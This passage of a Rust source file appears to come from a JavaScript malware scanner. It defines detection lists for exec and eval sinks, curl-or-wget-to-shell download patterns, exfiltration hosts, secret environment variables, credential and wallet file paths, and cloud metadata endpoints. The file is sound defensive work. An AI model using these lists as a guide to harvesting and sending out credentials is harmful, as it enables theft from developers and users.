//! Shared vocabulary of H3's per-file JavaScript rules (shell-exec, dynamic-code, encoded-payload,
//! obfuscation, env-harvest, credential-files, exfil-sink): which canonical callees are process,
//! code-execution and network sinks, which hosts are exfiltration services, which paths hold
//! credentials. Rules combine these (a data source and a sink in the same file) rather than
//! flagging single APIs at high severity.

use palisade_core::{Capability, Confidence, Finding, Severity};

use crate::facts::{Call, FileFacts, Value};
use crate::rules::RuleInfo;

/// `node:child_process` → `child_process`, `globalThis.eval` → `eval`.
pub fn normalize(callee: &str) -> &str {
    // Every rule normalises every call's callee: most start with none of the prefixes' letters.
    if !matches!(callee.as_bytes().first(), Some(b'n' | b'g' | b'w' | b's')) {
        return callee;
    }
    let mut callee = callee.strip_prefix("node:").unwrap_or(callee);
    for prefix in ["globalThis.", "window.", "global.", "self."] {
        if let Some(rest) = callee.strip_prefix(prefix) {
            callee = rest;
        }
    }
    callee
}

/// Process execution: `child_process.*` and the popular wrappers around it.
pub fn is_exec(callee: &str) -> bool {
    let callee = normalize(callee);
    if let Some(method) = callee.strip_prefix("child_process.") {
        return matches!(
            method,
            "exec" | "execSync" | "spawn" | "spawnSync" | "execFile" | "execFileSync" | "fork"
        ) || method.starts_with("promises.");
    }
    matches!(
        callee,
        "execa"
            | "execa.execa"
            | "execa.execaSync"
            | "execa.command"
            | "execa.commandSync"
            | "execa.sync"
            | "execa.$"
            | "shelljs.exec"
            | "cross-spawn"
            | "cross-spawn.sync"
            | "process.binding"
            | "util.promisify(child_process.exec)"
    )
}

/// [`is_exec`] on a call's callee, as decided when the call was recorded.
pub fn is_exec_call(call: &Call) -> bool {
    call.flags & crate::rules::flag::SINK_EXEC != 0
}

/// [`is_network`] on a call's callee, as decided when the call was recorded.
pub fn is_network_call(call: &Call) -> bool {
    call.flags & crate::rules::flag::SINK_NETWORK != 0
}

/// [`classify_eval`], as decided when the call was recorded.
pub fn is_eval(call: &Call) -> bool {
    call.flags & crate::rules::flag::EVAL != 0
}

/// Code execution from strings.
pub fn classify_eval(call: &Call) -> bool {
    let callee = normalize(&call.callee);
    matches!(
        callee,
        "eval"
            | "Function"
            | "vm.runInThisContext"
            | "vm.runInNewContext"
            | "vm.runInContext"
            | "vm.Script"
            | "vm.compileFunction"
            | "vm.SourceTextModule"
    ) || callee.ends_with("._compile")
}

/// Network clients: Node's modules, fetch, XHR, WebSocket and the popular HTTP libraries.
pub fn is_network(callee: &str) -> bool {
    let callee = normalize(callee);
    let module = callee.split('.').next().unwrap_or(callee);
    matches!(
        module,
        "http"
            | "https"
            | "http2"
            | "net"
            | "tls"
            | "dgram"
            | "dns"
            | "fetch"
            | "node-fetch"
            | "cross-fetch"
            | "axios"
            | "got"
            | "request"
            | "needle"
            | "superagent"
            | "undici"
            | "ws"
            | "WebSocket"
            | "XMLHttpRequest"
            | "socket.io-client"
            | "phin"
            | "bent"
            | "ky"
    ) || callee == "navigator.sendBeacon"
        // The module name has a dot of its own.
        || callee == "socket.io-client"
        || callee.starts_with("socket.io-client.")
}

/// Does this file talk to the network (or run curl/wget/Invoke-WebRequest)?
/// Files larger than this are bundles: a network call and a risky call far apart in them mean little.
pub const SMALL_FILE: usize = 50_000;

/// A small file written by hand (not minified, under [`SMALL_FILE`]): what it does together is
/// meant together.
pub fn is_small_handwritten(file: &FileFacts) -> bool {
    !file.metrics.minified && file.metrics.bytes.max(file.size as usize) < SMALL_FILE
}

/// A file of [`SMALL_FILE`] bytes or more, minified or not: a bundle of many modules, where a
/// directory walk, a DNS lookup and a write meet by accident. Small minified payloads
/// (flatmap-stream's `index.min.js`, node-ipc's `ssl-geospec.js`) are not bundles.
pub fn is_bundle(file: &FileFacts) -> bool {
    file.metrics.bytes.max(file.size as usize) >= SMALL_FILE
}

pub fn has_network(file: &FileFacts) -> bool {
    file.calls.iter().any(is_network_call)
        || file.imports.iter().any(|module| is_network(module))
        || file
            .calls
            .iter()
            .any(|c| is_exec_call(c) && command_text(c).is_some_and(|t| is_download_command(&t)))
}

/// The known text of a value: strings, and arrays of strings joined with spaces (spawn argv).
pub fn value_text(value: &Value) -> Option<String> {
    match value {
        Value::Str { value, .. } => Some(value.clone()),
        Value::Array { items } => {
            let parts: Vec<String> = items.iter().filter_map(value_text).collect();
            (!parts.is_empty()).then(|| parts.join(" "))
        }
        _ => None,
    }
}

/// Whether any part of the value went through a decoder.
pub fn value_decoded(value: &Value) -> bool {
    match value {
        Value::Str { decoded, .. } => *decoded,
        Value::Array { items } => items.iter().any(value_decoded),
        Value::Object { entries } => entries.iter().any(|(_, v)| value_decoded(v)),
        _ => false,
    }
}

/// Values the analyzer could not resolve to a constant: computed at run time.
pub fn is_computed(value: &Value) -> bool {
    match value {
        Value::Str { .. } | Value::Num { .. } | Value::Bool { .. } => false,
        Value::Array { items } => items.iter().any(is_computed),
        _ => true,
    }
}

/// The command line of an exec-like call: the command plus, for spawn/execFile, its argv.
pub fn command_text(call: &Call) -> Option<String> {
    let mut text = value_text(call.args.first()?)?;
    if let Some(argv @ Value::Array { .. }) = call.args.get(1) {
        if let Some(rest) = value_text(argv) {
            text.push(' ');
            text.push_str(&rest);
        }
    }
    Some(text)
}

/// The options object of a spawn-like call (`{ detached: true, stdio: 'ignore' }`).
pub fn options_object(call: &Call) -> Option<&[(String, Value)]> {
    call.args.iter().rev().find_map(|a| match a {
        Value::Object { entries } => Some(entries.as_slice()),
        _ => None,
    })
}

pub fn object_get<'a>(entries: &'a [(String, Value)], key: &str) -> Option<&'a Value> {
    entries.iter().find(|(k, _)| k == key).map(|(_, v)| v)
}

/// `curl … | sh`, `wget -O- … | bash`, `iwr … | iex`, `DownloadString`, `curl -o x && chmod +x x`.
pub fn is_download_command(text: &str) -> bool {
    let lower = text.to_ascii_lowercase();
    let downloads = [
        "curl ",
        "wget ",
        "invoke-webrequest",
        "iwr ",
        "downloadstring",
        "downloadfile",
        "bitsadmin",
        "certutil -urlcache",
    ]
    .iter()
    .any(|d| lower.contains(d));
    downloads && (lower.contains("http") || lower.contains("ftp:"))
}

/// The download result is executed: piped to a shell, `iex`, or saved, chmodded and run.
pub fn is_download_and_run(text: &str) -> bool {
    if !is_download_command(text) {
        return false;
    }
    let lower = text.to_ascii_lowercase();
    let piped = lower.split('|').skip(1).any(|stage| {
        let stage = stage.trim_start();
        [
            "sh",
            "bash",
            "zsh",
            "sudo",
            "iex",
            "invoke-expression",
            "node",
            "python",
            "perl",
            "powershell",
        ]
        .iter()
        .any(|shell| stage.starts_with(shell))
    });
    piped
        || lower.contains("iex(")
        || lower.contains("iex (")
        || lower.contains("invoke-expression")
        || (lower.contains("chmod") && lower.contains("+x"))
        || lower.contains("start-process")
        || ((lower.contains(" -o ") || lower.contains(" -outfile "))
            && lower.contains('&')
            && (lower.contains(".exe") || lower.contains("start ")))
}

/// Registries and mirrors that package-manager configuration legitimately points at.
const KNOWN_REGISTRIES: &[&str] = &[
    "registry.npmjs.org",
    "registry.npmjs.com",
    "registry.yarnpkg.com",
    "npm.pkg.github.com",
    "registry.npmmirror.com",
    "registry.npm.taobao.org",
    "localhost",
    "127.0.0.1",
    "::1",
];

/// The host of an unfamiliar registry that a configuration text or command sets as the
/// default: `registry=http://…` in an `.npmrc`, `npm config set registry …`,
/// `npmRegistryServer: …` in `.yarnrc.yml`. Scoped registries (`@scope:registry=`) only
/// serve that scope and are left out.
pub fn registry_redirect(text: &str) -> Option<String> {
    memchr::memmem::find(text.as_bytes(), b"://")?;
    let lower = text.to_ascii_lowercase();
    for (at, key) in lower.match_indices("registry").map(|(at, _)| (at, "registry")).chain(
        lower
            .match_indices("npmregistryserver")
            .map(|(at, _)| (at, "npmregistryserver")),
    ) {
        // `@scope:registry=` is scoped; `registry.npmjs.org/` is a host, not the key.
        if lower[..at].ends_with(':') || lower[at + key.len()..].starts_with('.') {
            continue;
        }
        let after = lower[at + key.len()..].trim_start_matches(['"', '\'', ' ', '\t']);
        let Some(value) = after.strip_prefix(['=', ':']).or_else(|| {
            // `npm config set registry URL`, `npm set registry URL`.
            lower[..at].trim_end().ends_with("set").then_some(after)
        }) else {
            continue;
        };
        let value = value.trim_start_matches(['"', '\'', ' ', '\t']);
        if !(value.starts_with("http://") || value.starts_with("https://")) {
            continue;
        }
        let host = url_hosts(value).into_iter().next()?;
        if !KNOWN_REGISTRIES.iter().any(|known| host == *known) {
            return Some(host);
        }
    }
    None
}

/// Hosts named in `http(s)://`, `ws(s)://` URLs inside a string.
pub fn url_hosts(text: &str) -> Vec<String> {
    let mut hosts = Vec::new();
    // Most texts hold no URL: skip the lower-cased copy for them.
    if memchr::memmem::find(text.as_bytes(), b"://").is_none() {
        return hosts;
    }
    let lower = text.to_ascii_lowercase();
    let mut rest = lower.as_str();
    while let Some(pos) = rest.find("://") {
        let scheme_start = rest[..pos]
            .char_indices()
            .rev()
            .find(|(_, c)| !c.is_ascii_alphanumeric())
            .map_or(0, |(i, c)| i + c.len_utf8());
        let scheme = &rest[scheme_start..pos];
        let after = &rest[pos + 3..];
        if matches!(scheme, "http" | "https" | "ws" | "wss" | "ftp") {
            let end = after
                .find(['/', '?', '#', '"', '\'', '`', ' ', '\\', '\n', '\r', '\t'])
                .unwrap_or(after.len());
            let authority = &after[..end];
            let authority = authority.rsplit('@').next().unwrap_or(authority);
            let host = if authority.starts_with('[') {
                authority.split(']').next().unwrap_or(authority).trim_start_matches('[')
            } else {
                authority.split(':').next().unwrap_or(authority)
            };
            if !host.is_empty() && hosts.len() < 64 {
                hosts.push(host.to_string());
            }
        }
        rest = after;
    }
    hosts
}

/// Hosts a network call targets: URLs in its string arguments and `host`/`hostname` options.
pub fn call_hosts(call: &Call) -> Vec<String> {
    let mut hosts = Vec::new();
    for arg in &call.args {
        match arg {
            Value::Str { value, .. } => {
                hosts.extend(url_hosts(value));
                // net.connect(port, '1.2.3.4') / socket.connect(port, host)
                if is_public_ipv4(value) {
                    hosts.push(value.clone());
                }
            }
            Value::Object { entries } => {
                for key in ["hostname", "host"] {
                    if let Some(Value::Str { value, .. }) = object_get(entries, key) {
                        hosts.push(value.split(':').next().unwrap_or(value).to_ascii_lowercase());
                    }
                }
                if let Some(Value::Str { value, .. }) = object_get(entries, "url") {
                    hosts.extend(url_hosts(value));
                }
            }
            _ => {}
        }
    }
    hosts
}

/// A literal IPv4 address that is routable on the internet (not loopback, private,
/// link-local, documentation or a well-known public DNS resolver).
/// An IPv4 or IPv6 address written out instead of a host name.
pub fn is_ip_literal(host: &str) -> bool {
    host.parse::<std::net::IpAddr>().is_ok()
}

pub fn is_public_ipv4(host: &str) -> bool {
    let Ok(ip) = host.parse::<std::net::Ipv4Addr>() else {
        return false;
    };
    let o = ip.octets();
    let resolvers = [
        "8.8.8.8",
        "8.8.4.4",
        "1.1.1.1",
        "1.0.0.1",
        "9.9.9.9",
        "208.67.222.222",
        "208.67.220.220",
    ];
    !(ip.is_loopback()
        || ip.is_private()
        || ip.is_link_local()
        || ip.is_unspecified()
        || ip.is_broadcast()
        || ip.is_documentation()
        || ip.is_multicast()
        || o[0] == 0
        || o[0] >= 240
        || (o[0] == 100 && (64..128).contains(&o[1]))
        || resolvers.contains(&host))
}

/// Exfiltration and collaboration services: webhooks, request catchers, paste sites,
/// tunnels and out-of-band interaction (OAST) servers.
pub fn exfil_service(host: &str, text: &str) -> Option<&'static str> {
    let host = host.trim_end_matches('.');
    let lower = text.to_ascii_lowercase();
    let ends = |suffix: &str| host == suffix || host.ends_with(&format!(".{suffix}"));
    // Discord and Telegram: only hard-coded credentials in the URL are attacker shaped; API
    // clients build these from variables.
    if (ends("discord.com") || ends("discordapp.com")) && has_webhook_credentials(&lower) {
        return Some("a Discord webhook");
    }
    if ends("api.telegram.org") && has_telegram_token(&lower) {
        return Some("a Telegram bot");
    }
    // Slack incoming webhooks with the workspace, channel and secret written out.
    if host == "hooks.slack.com" && has_slack_webhook_secret(&lower) {
        return Some("a Slack webhook");
    }
    // A Google Apps Script web app: anyone can deploy one as a free collection endpoint.
    if host == "script.google.com" && lower.contains("/macros/s/") {
        return Some("a Google Apps Script web app");
    }
    const SERVICES: &[(&str, &str)] = &[
        ("webhook.site", "webhook.site"),
        ("pipedream.net", "a Pipedream request bin"),
        ("m.pipedream.net", "a Pipedream request bin"),
        ("requestbin.net", "a request bin"),
        ("requestbin.com", "a request bin"),
        ("requestcatcher.com", "a request catcher"),
        ("requestrepo.com", "a request catcher"),
        ("webhook.cool", "a request catcher"),
        ("beeceptor.com", "a request catcher"),
        ("hookbin.com", "a request bin"),
        ("ngrok.io", "an ngrok tunnel"),
        ("ngrok-free.app", "an ngrok tunnel"),
        ("ngrok.app", "an ngrok tunnel"),
        ("ngrok.dev", "an ngrok tunnel"),
        ("trycloudflare.com", "a Cloudflare quick tunnel"),
        ("serveo.net", "a tunnel"),
        ("localtunnel.me", "a tunnel"),
        ("loca.lt", "a tunnel"),
        ("oast.fun", "an out-of-band interaction (OAST) server"),
        ("oast.pro", "an out-of-band interaction (OAST) server"),
        ("oast.live", "an out-of-band interaction (OAST) server"),
        ("oast.site", "an out-of-band interaction (OAST) server"),
        ("oast.online", "an out-of-band interaction (OAST) server"),
        ("oast.me", "an out-of-band interaction (OAST) server"),
        ("interact.sh", "an out-of-band interaction (OAST) server"),
        ("interactsh.com", "an out-of-band interaction (OAST) server"),
        ("burpcollaborator.net", "Burp Collaborator"),
        ("oastify.com", "Burp Collaborator"),
        ("canarytokens.com", "a canary token"),
        ("dnslog.cn", "a DNS logger"),
        ("ceye.io", "a DNS logger"),
        ("pastebin.com", "a paste site"),
        ("hastebin.com", "a paste site"),
        ("paste.ee", "a paste site"),
        ("ghostbin.com", "a paste site"),
        ("transfer.sh", "a file drop"),
        ("file.io", "a file drop"),
        ("0x0.st", "a file drop"),
        ("bashupload.com", "a file drop"),
        ("temp.sh", "a file drop"),
        ("anonfiles.com", "a file drop"),
    ];
    SERVICES
        .iter()
        .find(|(suffix, _)| ends(suffix))
        .map(|(_, label)| *label)
}

fn has_webhook_credentials(lower: &str) -> bool {
    let Some(pos) = lower.find("/api/webhooks/") else {
        return false;
    };
    let rest = &lower[pos + "/api/webhooks/".len()..];
    let digits = rest.chars().take_while(char::is_ascii_digit).count();
    // Real webhook ids are 17-20 digit snowflakes; shorter ids still count when a literal token
    // follows (`/api/webhooks/1234567/AbC…`): a template `${id}/${token}` never folds to this.
    let token = rest[digits..].strip_prefix('/').map_or(0, |t| {
        t.chars()
            .take_while(|c| c.is_ascii_alphanumeric() || matches!(c, '-' | '_'))
            .count()
    });
    digits >= 15 || (digits >= 5 && token >= 20)
}

/// `/services/T…/B…/<24-character secret>`: a template with variables never folds to this.
fn has_slack_webhook_secret(lower: &str) -> bool {
    let Some(pos) = lower.find("/services/t") else {
        return false;
    };
    let parts: Vec<&str> = lower[pos + "/services/".len()..].splitn(4, '/').collect();
    let word = |p: &str| p.chars().take_while(char::is_ascii_alphanumeric).count();
    parts.len() >= 3 && word(parts[0]) >= 8 && parts[1].starts_with('b') && word(parts[1]) >= 8 && word(parts[2]) >= 20
}

fn has_telegram_token(lower: &str) -> bool {
    let Some(pos) = lower.find("/bot") else {
        return false;
    };
    let rest = &lower[pos + 4..];
    let digits = rest.chars().take_while(char::is_ascii_digit).count();
    digits >= 6 && rest[digits..].starts_with(':')
}

/// Environment variable names that hold credentials.
pub fn is_secret_env_name(name: &str) -> bool {
    let upper = name.to_ascii_uppercase();
    const EXACT: &[&str] = &[
        "NPM_TOKEN",
        "NODE_AUTH_TOKEN",
        "NPM_CONFIG__AUTH",
        "GITHUB_TOKEN",
        "GH_TOKEN",
        "GITLAB_TOKEN",
        "CI_JOB_TOKEN",
        "AWS_ACCESS_KEY_ID",
        "AWS_SECRET_ACCESS_KEY",
        "AWS_SESSION_TOKEN",
        "AZURE_CLIENT_SECRET",
        "GOOGLE_APPLICATION_CREDENTIALS",
        "SLACK_TOKEN",
        "DOCKER_PASSWORD",
        "HEROKU_API_KEY",
    ];
    EXACT.contains(&upper.as_str())
        || [
            "SECRET",
            "TOKEN",
            "PASSWORD",
            "PASSWD",
            "PRIVATE_KEY",
            "API_KEY",
            "ACCESS_KEY",
        ]
        .iter()
        .any(|part| upper.contains(part))
        || upper.ends_with("_KEY")
}

/// The service a secret variable belongs to (`GH_TOKEN` and `GITHUB_TOKEN` → `GITHUB`): an SDK
/// reads its own service's secrets, a harvester collects several services'.
pub fn secret_service(name: &str) -> String {
    let upper = name.to_ascii_uppercase();
    let first = upper
        .split('_')
        .find(|part| !part.is_empty())
        .unwrap_or(&upper)
        .to_string();
    match first.as_str() {
        "GH" => "GITHUB".to_string(),
        "NODE" if upper == "NODE_AUTH_TOKEN" => "NPM".to_string(),
        _ => first,
    }
}

/// A class of secret a file names by path, endpoint or command.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
pub enum CredentialKind {
    Npmrc,
    Ssh,
    AwsCredentials,
    GhHosts,
    GitCredentials,
    GhAuthToken,
    Browser,
    Wallet,
    SecretScanner,
    Docker,
    Kube,
    Gcloud,
    CloudMetadata,
    /// Session stores: Discord's `Local Storage/leveldb` tokens (any Chromium or Electron app's
    /// `Local Storage/leveldb`), Telegram's `tdata`.
    ChatSession,
    /// Shell history files, where typed tokens and passwords end up.
    ShellHistory,
    /// A project's `.env` files (`.env`, `.env.local`, `.env.production`): every secret the
    /// application uses. Configuration loaders read them routinely: weak alone.
    DotEnv,
}

impl CredentialKind {
    pub fn label(self) -> &'static str {
        match self {
            CredentialKind::Npmrc => "npm tokens (~/.npmrc)",
            CredentialKind::Ssh => "SSH keys (~/.ssh)",
            CredentialKind::AwsCredentials => "AWS credentials (~/.aws/credentials)",
            CredentialKind::GhHosts => "GitHub CLI tokens (gh/hosts.yml)",
            CredentialKind::GitCredentials => "git credentials (.git-credentials)",
            CredentialKind::GhAuthToken => "the GitHub CLI token (`gh auth token`)",
            CredentialKind::Browser => "browser passwords and cookies",
            CredentialKind::Wallet => "crypto-wallet data",
            CredentialKind::SecretScanner => "a secret scanner (trufflehog/gitleaks)",
            CredentialKind::Docker => "Docker registry credentials",
            CredentialKind::Kube => "Kubernetes credentials",
            CredentialKind::Gcloud => "Google Cloud credentials",
            CredentialKind::CloudMetadata => "the cloud instance metadata endpoint",
            CredentialKind::ChatSession => "app session tokens (Discord, Telegram, Local Storage/leveldb)",
            CredentialKind::ShellHistory => "shell history (~/.bash_history, ~/.zsh_history)",
            CredentialKind::DotEnv => "the project's .env secrets",
        }
    }

    /// Kinds that legitimate SDKs read routinely (cloud SDKs, container clients): weak alone.
    pub fn is_weak(self) -> bool {
        matches!(
            self,
            CredentialKind::Docker
                | CredentialKind::Kube
                | CredentialKind::Gcloud
                | CredentialKind::CloudMetadata
                | CredentialKind::DotEnv
        )
    }
}

/// Browser extension ids of crypto wallets (Chrome Web Store ids are stable).
const WALLET_EXTENSION_IDS: &[&str] = &[
    "nkbihfbeogaeaoehlefnkodbefgpgknn", // MetaMask
    "bfnaelmomeimhlpmgjnjophhpkkoljpa", // Phantom
    "hnfanknocfeofbddgcijnmhnfnkdnaad", // Coinbase Wallet
    "ibnejdfjmmkpcnlpebklmnkoeoihofec", // TronLink
    "fhbohimaelbohpjbbldcngcnapndodjp", // Binance Wallet
    "egjidjbpglichdcondbcbdnbeeppgdph", // Trust Wallet
    "aholpfdialjgjfhomihkjbmgjidlcdno", // Exodus Web3
    "ejbalbakoplchlghecdalmeeeajnimhm", // MetaMask (Edge)
    "acmacodkjbdgmoleebolmdjonilkdbch", // Rabby
    "dmkamcknogkgcdfhhbddcghachkejeap", // Keplr
];

/// Every needle [`credential_kinds`] looks for (besides [`WALLET_EXTENSION_IDS`]), lower-case:
/// one automaton pass over a string rules all of them out at once. A needle `credential_kinds`
/// tests must be listed here (debug builds assert it).
const CREDENTIAL_NEEDLES: &[&str] = &[
    ".env",
    "~/.npmrc",
    "/.npmrc",
    "$home/.npmrc",
    "cat .npmrc",
    "npm config get",
    "_authtoken",
    "~/.ssh",
    "/.ssh/",
    ".ssh/id_",
    "id_rsa",
    "id_ed25519",
    ".aws/credentials",
    "gh/hosts.yml",
    ".git-credentials",
    "gh auth token",
    "gh auth status --show-token",
    "chrome/user data",
    "google/chrome",
    "bravesoftware",
    "microsoft/edge",
    "mozilla/firefox",
    "opera software",
    "yandexbrowser",
    "chromium/",
    "login data",
    "logins.json",
    "key4.db",
    "cookies.sqlite",
    "local state",
    "web data",
    "exodus.wallet",
    "roaming/exodus",
    "application support/exodus",
    ".config/exodus",
    "electrum/wallets",
    "atomic/local storage",
    "ethereum/keystore",
    "solana/id.json",
    "wallet.dat",
    "com.liberty.jaxx",
    "guarda/local storage",
    "trufflehog",
    "gitleaks",
    ".docker/config.json",
    ".kube/config",
    "gcloud/credentials.db",
    "gcloud/application_default_credentials.json",
    "gcloud/access_tokens.db",
    "169.254.169.254",
    "metadata.google.internal",
    "169.254.170.2",
    "fd00:ec2::254",
    "/.ssh",
    "discord/local storage",
    "discordcanary/local storage",
    "discordptb/local storage",
    "lightcord/local storage",
    "telegram desktop/tdata",
    "local storage/leveldb",
    ".bash_history",
    ".zsh_history",
    "consolehost_history.txt",
];

/// One ASCII case-insensitive automaton over every credential needle.
fn credential_automaton() -> Option<&'static aho_corasick::AhoCorasick> {
    static GATE: std::sync::OnceLock<Option<aho_corasick::AhoCorasick>> = std::sync::OnceLock::new();
    GATE.get_or_init(|| {
        aho_corasick::AhoCorasick::builder()
            .kind(Some(aho_corasick::AhoCorasickKind::DFA))
            .prefilter(false)
            .ascii_case_insensitive(true)
            .build(CREDENTIAL_NEEDLES.iter().chain(WALLET_EXTENSION_IDS))
            .ok()
    })
    .as_ref()
}

/// Whether `text` may contain a credential needle (ASCII case-insensitive). Built from
/// constants, the automaton does not fail to build; if it did, everything may (no gate).
fn credential_gate(text: &str) -> bool {
    credential_automaton().is_none_or(|gate| gate.is_match(text))
}

/// The string constants (items of [`FileFacts::strings_blob`]) that name a credential path, a
/// start-up location or the self-hosted runner's scripts, each list in order. Found for a file
/// once, in one overlapping automaton pass over all its strings, and shared by credential-files,
/// exfil-sink and persistence (each used to make its own passes).
#[derive(Debug, Clone, Default)]
pub(crate) struct StringMarks {
    pub credential: Vec<usize>,
    pub location: Vec<usize>,
    pub runner: Vec<usize>,
}

/// Computes [`StringMarks`] for a blob of lower-cased strings.
pub(crate) fn string_marks(blob: &crate::facts::Blob) -> StringMarks {
    struct Marker {
        automaton: aho_corasick::AhoCorasick,
        credential_end: usize,
        location_end: usize,
    }
    static MARKER: std::sync::OnceLock<Option<Marker>> = std::sync::OnceLock::new();
    let marker = MARKER.get_or_init(|| {
        let credential: Vec<&str> = CREDENTIAL_NEEDLES.iter().chain(WALLET_EXTENSION_IDS).copied().collect();
        let location: Vec<&str> = super::persistence::location_fragments().collect();
        let patterns = credential.iter().chain(&location).chain(super::persistence::RUNNER);
        // Overlapping matches need the standard semantics, which the DFA supports.
        let automaton = aho_corasick::AhoCorasick::builder()
            .kind(Some(aho_corasick::AhoCorasickKind::DFA))
            .prefilter(false)
            .build(patterns)
            .ok()?;
        Some(Marker {
            automaton,
            credential_end: credential.len(),
            location_end: credential.len() + location.len(),
        })
    });
    let Some(marker) = marker else {
        // Built from constants, the automaton does not fail to build; if it did, mark everything.
        let all: Vec<usize> = (0..blob.len()).collect();
        return StringMarks {
            credential: all.clone(),
            location: all.clone(),
            runner: all,
        };
    };
    let mut marks = StringMarks::default();
    for m in marker.automaton.find_overlapping_iter(blob.text()) {
        let item = blob.item_at(m.start());
        let pattern = m.pattern().as_usize();
        let list = if pattern < marker.credential_end {
            &mut marks.credential
        } else if pattern < marker.location_end {
            &mut marks.location
        } else {
            &mut marks.runner
        };
        if list.last() != Some(&item) {
            list.push(item);
        }
    }
    for list in [&mut marks.credential, &mut marks.location, &mut marks.runner] {
        list.sort_unstable();
        list.dedup();
    }
    marks
}

/// [`file_strings`] without the string constants that cannot name a credential (no needle,
/// no backslash): those are ruled out in one automaton pass over all of them at once
/// instead of one per string. Same order as `file_strings`.
pub fn credential_texts(file: &FileFacts) -> Vec<(&str, bool, u32)> {
    // Debug builds check every string, like `credential_kinds` (see its gate).
    if cfg!(debug_assertions) {
        return file_strings(file).collect();
    }
    let blob = file.strings_blob();
    let mut candidates: Vec<usize> = file.string_marks().credential.clone();
    candidates.extend(memchr::memchr_iter(b'\\', blob.text().as_bytes()).map(|at| blob.item_at(at)));
    candidates.sort_unstable();
    candidates.dedup();
    let constants = candidates
        .into_iter()
        .filter_map(|index| file.strings.get(index))
        .map(|s| (s.value.as_str(), s.decoded, s.line));
    let args = file.calls.iter().flat_map(|c| {
        c.args.iter().filter_map(move |a| match a {
            Value::Str { value, decoded } => Some((value.as_str(), *decoded, c.line)),
            _ => None,
        })
    });
    constants.chain(args).collect()
}

/// The credential classes a string names. `~` is the home directory as folded by the extractor.
pub fn credential_kinds(text: &str) -> Vec<CredentialKind> {
    let mut kinds = Vec::new();
    if text.len() > 4096 {
        return kinds;
    }
    // Cheap gate: without a backslash, the lower-cased text contains a needle exactly when the
    // text contains it ignoring ASCII case. Debug builds skip the gate so that `has` checks
    // every needle against the list.
    if !cfg!(debug_assertions) && !text.contains('\\') && !credential_gate(text) {
        return kinds;
    }
    let lower = text.to_ascii_lowercase();
    let lower = lower.replace('\\', "/");
    let has = |needle: &str| {
        debug_assert!(
            CREDENTIAL_NEEDLES.contains(&needle) || WALLET_EXTENSION_IDS.contains(&needle),
            "credential_kinds needle {needle:?} missing from CREDENTIAL_NEEDLES"
        );
        lower.contains(needle)
    };
    // `npm config get //registry.npmjs.org/:_authToken` prints the token without touching the file.
    if has("~/.npmrc")
        || has("/.npmrc")
        || has("$home/.npmrc")
        || has("cat .npmrc")
        || (has("npm config get") && has("_authtoken"))
    {
        kinds.push(CredentialKind::Npmrc);
    }
    if has("~/.ssh")
        || has("/.ssh/")
        || lower.ends_with("/.ssh")
        || has(".ssh/id_")
        || has("id_rsa")
        || has("id_ed25519")
    {
        kinds.push(CredentialKind::Ssh);
    }
    if has(".aws/credentials") {
        kinds.push(CredentialKind::AwsCredentials);
    }
    if has("gh/hosts.yml") {
        kinds.push(CredentialKind::GhHosts);
    }
    if has(".git-credentials") {
        kinds.push(CredentialKind::GitCredentials);
    }
    if has("gh auth token") || has("gh auth status --show-token") {
        kinds.push(CredentialKind::GhAuthToken);
    }
    let browser_dir = has("chrome/user data")
        || has("google/chrome")
        || has("bravesoftware")
        || has("microsoft/edge")
        || has("mozilla/firefox")
        || has("opera software")
        || has("yandexbrowser")
        || has("chromium/");
    // Password and cookie stores, not profile directories (browser automation knows those).
    if has("login data")
        || has("logins.json")
        || has("key4.db")
        || has("cookies.sqlite")
        || (browser_dir && (has("local state") || has("web data")))
    {
        kinds.push(CredentialKind::Browser);
    }
    if WALLET_EXTENSION_IDS.iter().any(|id| has(id))
        || has("exodus.wallet")
        || has("roaming/exodus")
        || has("application support/exodus")
        || has(".config/exodus")
        || has("electrum/wallets")
        || has("atomic/local storage")
        || has("ethereum/keystore")
        || has("solana/id.json")
        || has("wallet.dat")
        || has("com.liberty.jaxx")
        || has("guarda/local storage")
    {
        kinds.push(CredentialKind::Wallet);
    }
    if has("trufflehog") || has("gitleaks") {
        kinds.push(CredentialKind::SecretScanner);
    }
    if has(".docker/config.json") {
        kinds.push(CredentialKind::Docker);
    }
    if has(".kube/config") {
        kinds.push(CredentialKind::Kube);
    }
    if has("gcloud/credentials.db")
        || has("gcloud/application_default_credentials.json")
        || has("gcloud/access_tokens.db")
    {
        kinds.push(CredentialKind::Gcloud);
    }
    if has("169.254.169.254") || has("metadata.google.internal") || has("169.254.170.2") || has("fd00:ec2::254") {
        kinds.push(CredentialKind::CloudMetadata);
    }
    if has("discord/local storage")
        || has("discordcanary/local storage")
        || has("discordptb/local storage")
        || has("lightcord/local storage")
        || has("telegram desktop/tdata")
        || has("local storage/leveldb")
    {
        kinds.push(CredentialKind::ChatSession);
    }
    if has(".bash_history") || has(".zsh_history") || has("consolehost_history.txt") {
        kinds.push(CredentialKind::ShellHistory);
    }
    if has(".env") && is_dotenv_path(lower.trim()) {
        kinds.push(CredentialKind::DotEnv);
    }
    kinds
}

/// Whether a text names a wallet only through a browser-extension id (no wallet file path):
/// wallet SDKs hold MetaMask's id to talk to the extension; stealers read its storage.
pub fn wallet_extension_id_only(text: &str) -> bool {
    let lower = text.to_ascii_lowercase();
    WALLET_EXTENSION_IDS.iter().any(|id| lower.contains(id))
        && ![
            "extension settings",
            "indexeddb",
            "/extensions/",
            "\\extensions\\",
            "exodus",
            "electrum",
            "keystore",
            "wallet.dat",
        ]
        .iter()
        .any(|w| lower.contains(w))
}

/// `.env`, `.env.local`, `.env.production`, … as a whole string or a path's last part.
fn is_dotenv_path(lower: &str) -> bool {
    let name = lower.rsplit('/').next().unwrap_or(lower);
    name == ".env"
        || name.strip_prefix(".env.").is_some_and(|rest| {
            matches!(
                rest,
                "local"
                    | "production"
                    | "prod"
                    | "development"
                    | "dev"
                    | "staging"
                    | "test"
                    | "production.local"
                    | "development.local"
            )
        })
}

/// Every string a file holds: string constants and the known string arguments of calls
/// (the extractor may fold arguments it does not list as constants).
pub fn file_strings(file: &FileFacts) -> impl Iterator<Item = (&str, bool, u32)> + '_ {
    let constants = file.strings.iter().map(|s| (s.value.as_str(), s.decoded, s.line));
    let args = file.calls.iter().flat_map(|c| {
        c.args.iter().filter_map(move |a| match a {
            Value::Str { value, decoded } => Some((value.as_str(), *decoded, c.line)),
            _ => None,
        })
    });
    constants.chain(args)
}

/// A finding of `info`'s rule in `file` at `line`, with the line's text as evidence.
pub fn finding(
    info: &RuleInfo,
    file: &FileFacts,
    line: u32,
    severity: Severity,
    confidence: Confidence,
